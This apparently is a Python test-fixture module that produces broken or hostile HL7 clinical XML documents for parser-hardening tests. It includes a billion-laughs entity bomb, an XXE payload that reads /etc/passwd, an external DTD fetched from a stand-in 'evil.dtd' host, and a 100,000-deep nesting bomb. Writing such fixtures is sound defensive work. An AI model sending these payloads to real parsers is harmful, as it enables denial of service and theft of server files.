"""Broken markup: clinical documents that are bombs, reach out, or are none."""


def xml_bomb() -> bytes:
    """Return a clinical document whose entities grow into gigabytes (billion laughs)."""
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return _markup(f'<!DOCTYPE lolz [<!ENTITY a0 "rire">{entities}]>', "<title>&a9;</title>")


def xml_external_entity() -> bytes:
    """Return a clinical document that asks for a file of the machine that reads it."""
    return _markup('<!DOCTYPE d [<!ENTITY file SYSTEM "file:///etc/passwd">]>', "<title>&file;</title>")


def xml_external_dtd() -> bytes:
    """Return a clinical document that asks for a DTD elsewhere."""
    return _markup('<!DOCTYPE d SYSTEM "http://192.0.2.1/evil.dtd">', "")


def xml_too_deep() -> bytes:
    """Return a clinical document nested a hundred thousand times."""
    return _markup("", "<section>" * 100_000 + "</section>" * 100_000)


def truncated_cda() -> bytes:
    """Return the first half of a clinical document."""
    return _markup("", "<title>Compte rendu</title>")[:60]


def cda_with_broken_file() -> bytes:
    """Return a clinical document whose body is no base64."""
    return _markup("", '<component><nonXMLBody><text representation="B64">?*é</text></nonXMLBody></component>')


def markup_of_another_kind() -> bytes:
    """Return XML that speaks of clinical documents and is none."""
    return b"<?xml version='1.0'?><list><item>ClinicalDocument</item></list>"


def _markup(prolog: str, content: str) -> bytes:
    """Write a clinical document."""
    return (
        f'<?xml version="1.0"?>{prolog}<ClinicalDocument xmlns="urn:hl7-org:v3">{content}</ClinicalDocument>'.encode()
    )
